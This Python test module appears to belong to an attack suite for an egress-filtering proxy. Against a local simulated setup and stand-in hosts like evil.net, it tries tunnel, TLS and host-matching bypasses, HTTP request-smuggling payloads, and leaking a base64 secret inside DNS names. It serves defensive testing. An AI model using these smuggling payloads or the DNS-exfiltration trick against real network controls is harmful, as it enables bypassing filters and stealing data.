# SPDX-License-Identifier: Apache-2.0
"""D5 to D8: other services, other servers behind the same tunnel, too many bytes, secrets in names."""

from __future__ import annotations

import socket
import threading
from functools import partial
from typing import TYPE_CHECKING, Any, Final

from tests.attack.arena import Arena
from tests.attack.techniques.proxying import (
    ALLOWED,
    PUBLIC,
    as_it_is,
    by_connect,
    by_socks,
    patched,
)
from tests.attack.techniques.record import Listed
from tests.unit.network.hellos import in_records, real_hello, server_name, written_hello
from tests.unit.network.scene import Scene, echo, read_all, scene, server
from unspill.errors import PolicyError
from unspill.model.run import Budget
from unspill.policy.hosts import HostRules, parse_rules

if TYPE_CHECKING:
    from collections.abc import Callable


LIST: Final = Listed(as_root="anybody")

ANY_PORT: Final = patched(
    "the list of ports", unspill__policy__hosts__AllowedHost__covers_port=lambda _rule, _port: True
)


def on_port(port: int) -> Callable[[Arena], object]:
    def attack(_arena: Arena) -> object:
        with scene(ALLOWED) as stage:
            stage.status(f"example.org:{port}")
            return stage.doorman.asked

    return attack


for _port, _what in {22: "SSH", 25: "mail", 53: "DNS", 6379: "a database"}.items():
    LIST.add("D5", f"Reach another service of an allowed host: {_what}", on_port(_port), ANY_PORT)


def says_first(said: bytes, rules: HostRules) -> Callable[[Arena], object]:
    """Tell whether what is said first in a tunnel to port 443 arrives at the server."""

    def attack(_arena: Arena) -> object:
        heard: list[bytes] = []

        def hear(connection: socket.socket) -> None:
            heard.append(connection.recv(65536))

        with server(hear) as port, scene(rules, servers={443: port}) as stage:
            client, status = stage.tunnel("example.org:443")
            assert b"200" in status, status
            with client:
                client.sendall(said)
                client.shutdown(socket.SHUT_WR)
                read_all(client)
        return any(heard)

    return attack


CHECKED: Final = parse_rules(ALLOWED)
UNCHECKED: Final = CHECKED.replace(any_server_name=True)
ENCRYPTED: Final = written_hello(server_name(b"example.org"), (0xFE0D, b"\0" * 40))
for _tries, _said in {
    "Ask another server behind the same address by TLS": real_hello("evil.example.net"),
    "Ask for no server by TLS": real_hello(None),
    "Hide by encryption which server is asked for": in_records(ENCRYPTED),
    "Ask for two servers in one first message": in_records(written_hello(server_name(b"example.org", b"evil.net"))),
    "Speak something else than TLS on its port": b"SSH-2.0-tunnel\r\n",
}.items():
    LIST.add_pair(
        "D5", _tries, says_first(_said, CHECKED), "without the look at the first message", says_first(_said, UNCHECKED)
    )


def no_gate(_asked: object, **_named: object) -> None:
    return None


def inside_a_tunnel(said: bytes, sign: bytes) -> Callable[[Arena], object]:
    """Tell whether something goes through a tunnel to a web server that is not a request for it."""

    def attack(_arena: Arena) -> object:
        heard: list[bytes] = []

        def hear(connection: socket.socket) -> None:
            connection.settimeout(0.2)
            while chunk := connection.recv(65536):
                heard.append(chunk)

        with server(hear) as port, scene(ALLOWED, servers={80: port}) as stage:
            client, status = stage.tunnel("example.org:80")
            assert b"200" in status, status
            with client:
                client.sendall(said)
                client.shutdown(socket.SHUT_WR)
                read_all(client)
        return sign in b"".join(heard)

    return attack


OPEN_TUNNEL: Final = patched("the look at requests in a tunnel", unspill__network__proxy__gate_for=no_gate)
TWO: Final = b"GET / HTTP/1.1\r\nHost: example.org\r\n\r\nGET /second HTTP/1.1\r\nHost: evil.net\r\n\r\n"
for _tries, _said, _sign in (
    ("Pass a CONNECT on to the next proxy", b"CONNECT evil.net:443 HTTP/1.1\r\n\r\n", b"evil.net"),
    ("Name another host within a tunnel", b"GET / HTTP/1.1\r\nHost: evil.net\r\n\r\n", b"evil.net"),
    ("Ask a server within a tunnel for a whole address", b"GET http://evil.net/ HTTP/1.1\r\n\r\n", b"evil.net"),
    ("Send a second request behind the first", TWO, b"/second"),
    ("Speak something else than HTTP on its port", b"SSH-2.0-tunnel\r\n\r\n", b"SSH"),
    (
        "Send a body whose length is told in two ways",
        b"POST / HTTP/1.1\r\nHost: example.org\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET",
        b"Transfer-Encoding",
    ),
    ("End lines in a way that not everybody sees", b"GET / HTTP/1.1\nHost: example.org\n\n", b"GET"),
    ("Break a field over two lines", b"GET / HTTP/1.1\r\nHost: example.org\r\n evil.net\r\n\r\n", b"evil.net"),
):
    LIST.add("D5", _tries, inside_a_tunnel(_said, _sign), OPEN_TUNNEL)


def reaches(host: str, rules: Callable[[], Any]) -> Callable[[Arena], object]:
    def attack(_arena: Arena) -> object:
        try:
            with scene(rules()) as stage:
                stage.status(f"{host}:443")
                return stage.doorman.asked
        except PolicyError:
            return False

    return attack


LIST.add_pair(
    "D6",
    "Reach a host although the list of hosts is empty",
    reaches("example.org", lambda: parse_rules([])),
    "where an empty list means everything",
    reaches("example.org", lambda: PUBLIC),
)
BY_END: Final = patched(
    "the comparison label by label",
    unspill__policy__hosts__AllowedHost__covers_host=lambda rule, host: host.endswith(rule.host),
)
for _tries, _host, _rule in (
    ("Reach a host that ends like an allowed one", "evilexample.org", "example.org"),
    ("Reach a host that ends like an allowed domain", "evilexample.org", "*.example.org"),
    ("Reach a host below one that is allowed by itself", "evil.example.org", "example.org"),
):
    LIST.add("D6", _tries, reaches(_host, partial(parse_rules, [_rule])), BY_END)
LIST.add(
    "D6",
    "Reach a host that begins like an allowed one",
    reaches("example.org.evil.net", lambda: parse_rules(["example.org"])),
    patched(
        "the comparison label by label",
        unspill__policy__hosts__AllowedHost__covers_host=lambda rule, host: host.startswith(rule.host),
    ),
)
for _suffix in ("com", "co.uk", "github.io"):
    LIST.add(
        "D6",
        f"Have everybody's hosts allowed by a star below {_suffix}",
        reaches(f"evil.{_suffix}", partial(parse_rules, [f"*.{_suffix}"])),
        patched(
            "the list of public suffixes and the grammar of names",
            unspill__policy__hosts__is_public_suffix=lambda _name: False,
            unspill__policy__hosts__parse_host=as_it_is,
        ),
    )


def carried(budget: Budget, size: int) -> Callable[[Arena], object]:
    """Tell whether that much goes out and comes back through one allowed host."""

    def attack(_arena: Arena) -> object:
        with server(echo) as port, scene(["example.org:9000"], servers={9000: port}, budget=budget) as stage:
            client, status = stage.tunnel("example.org:9000")
            assert b"200" in status, status
            with client:
                thread = threading.Thread(target=try_to_send, args=(client, bytes(size)))
                thread.start()
                received = len(read_all(client))
                thread.join()
        return received >= size

    return attack


def try_to_send(client: socket.socket, content: bytes) -> None:
    try:
        client.sendall(content)
        client.shutdown(socket.SHUT_WR)
    except OSError:
        return


SIZE: Final = 1 << 20
for _tries, _budget in {
    "Send more out through an allowed host than a run may": Budget(up=SIZE // 4),
    "Fetch more through an allowed host than a run may": Budget(down=SIZE // 4),
}.items():
    LIST.add_pair("D7", _tries, carried(_budget, SIZE), "without a budget", carried(Budget(), SIZE))


def looked_up(ask: Callable[[Scene], object]) -> Callable[[Arena], object]:
    """Tell whether a name that is not allowed is asked for: its owner would read it."""

    def attack(_arena: Arena) -> object:
        with scene(ALLOWED) as stage:
            ask(stage)
            return [name for name in stage.names.asked if name.endswith("evil.net")]

    return attack


ANY_HOST: Final = patched(
    "the rules of hosts", unspill__policy__hosts__HostRules__judge=lambda _rules, _destination: None
)
SECRET: Final = "c2VjcmV0.evil.net"
for _tries, _ask in {
    "Tell a secret in a name that is looked up for a tunnel": lambda stage: by_connect(stage, f"{SECRET}:443"),
    "Tell a secret in a name that is looked up for SOCKS": lambda stage: by_socks(stage, SECRET.encode()),
    "Tell a secret in a name that is looked up for a page": (
        lambda stage: stage.exchange(f"GET http://{SECRET}/ HTTP/1.1\r\n\r\n".encode())
    ),
}.items():
    LIST.add("D8", _tries, looked_up(_ask), ANY_HOST)
